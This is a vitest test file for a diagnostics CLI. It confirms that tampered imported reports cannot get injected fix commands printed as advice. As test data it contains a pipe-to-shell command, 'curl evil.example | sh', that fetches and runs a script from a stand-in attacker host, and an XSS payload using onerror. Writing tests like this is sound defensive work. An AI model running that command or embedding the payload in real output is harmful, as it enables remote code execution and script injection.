import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Report } from '../../shared/model/report';
import { rederivedReport } from '../../main/use-cases/stored-report';
import { runCli } from '../lab/cli';

/**
 * A stored or imported session's fix and check commands are re-derived by the current engine from its probes and
 * input; the texts and commands stored in the file are never printed as the tool's advice (`show`, `export`).
 */

const INJECTED = 'curl evil.example | sh';
const MARKUP = '<img src=x onerror=alert(1)> # allow CDN';
const REAL_FIX = 'systemctl enable --now nginx';

let dir = '';
let exported = '';
let original: Report;

type Doc = { sessions: { report: Report }[] };

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'od-advice-'));
  const src = path.join(dir, 'src.sqlite');
  const json = path.join(dir, 'run.json');
  // A real run against a closed loopback port: cause.service_down with its real fix steps.
  await runCli(['diagnose', '--endpoint', 'http://127.0.0.1:1', '--no-trace', '--db', src, '--json', json]);
  original = JSON.parse(readFileSync(json, 'utf8')) as Report;
  exported = path.join(dir, 'all.json');
  const e = await runCli(['export', original.session.id, '--all', '--db', src, '--json', exported]);
  expect(e.code).toBe(0);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The export with every cause's check and fix steps replaced by an attacker's text and command. */
function tamper(doc: Doc): Doc {
  for (const s of doc.sessions)
    for (const c of s.report.causes) {
      const evil = { key: '', params: {}, text: `${MARKUP} ${INJECTED}`, command: INJECTED };
      c.fix = c.fix.map(() => ({ ...evil }));
      c.checks = c.checks.map(() => ({ ...evil }));
      c.fix.push({ ...evil, env: 'terraform' });
    }
  return doc;
}

async function importInto(name: string, doc: Doc): Promise<string> {
  const file = path.join(dir, `${name}.json`);
  writeFileSync(file, JSON.stringify(doc));
  const db = path.join(dir, `${name}.sqlite`);
  const imp = await runCli(['import', file, '--db', db]);
  expect(imp.code).toBe(0);
  return db;
}

async function outputs(db: string, name: string): Promise<Record<string, string>> {
  const id = original.session.id.slice(0, 8);
  const show = await runCli(['show', id, '--db', db]);
  const showJson = await runCli(['show', id, '--db', db, '--json']);
  const md = path.join(dir, `${name}.md`);
  const html = path.join(dir, `${name}.html`);
  const json = path.join(dir, `${name}.report.json`);
  const ex = await runCli(['export', id, '--db', db, '--md', md, '--html', html, '--json', json]);
  expect(ex.code).toBe(0);
  return {
    show: show.stdout + show.stderr,
    showJson: showJson.stdout,
    md: readFileSync(md, 'utf8'),
    html: readFileSync(html, 'utf8'),
    json: readFileSync(json, 'utf8'),
  };
}

test('an imported cause whose fix says "curl evil.example | sh": show and export print the real fix', async () => {
  expect(original.causes.map((c) => c.id)).toContain('cause.service_down');
  const doc = tamper(JSON.parse(readFileSync(exported, 'utf8')) as Doc);
  const out = await outputs(await importInto('tampered', doc), 'tampered');
  for (const [where, text] of Object.entries(out)) {
    expect(text, where).not.toContain('evil.example');
    expect(text, where).not.toContain('onerror');
    expect(text, where).toContain(REAL_FIX);
  }
});

test('near miss: an untouched import shows the same real fix steps as the run that made it', async () => {
  const doc = JSON.parse(readFileSync(exported, 'utf8')) as Doc;
  const out = await outputs(await importInto('plain', doc), 'plain');
  for (const [where, text] of Object.entries(out)) expect(text, where).toContain(REAL_FIX);
  const shown = JSON.parse(out.showJson!) as { report: Report };
  expect(shown.report.causes).toEqual(original.causes);
  expect(shown.report.findings).toEqual(original.findings);
});

test('the session view (sessions:open) gets the re-derived report, not the stored steps', () => {
  const doc = tamper(JSON.parse(readFileSync(exported, 'utf8')) as Doc);
  const r = rederivedReport(doc.sessions[0]!.report);
  expect(JSON.stringify(r)).not.toContain('evil.example');
  expect(r.causes).toEqual(original.causes);
});
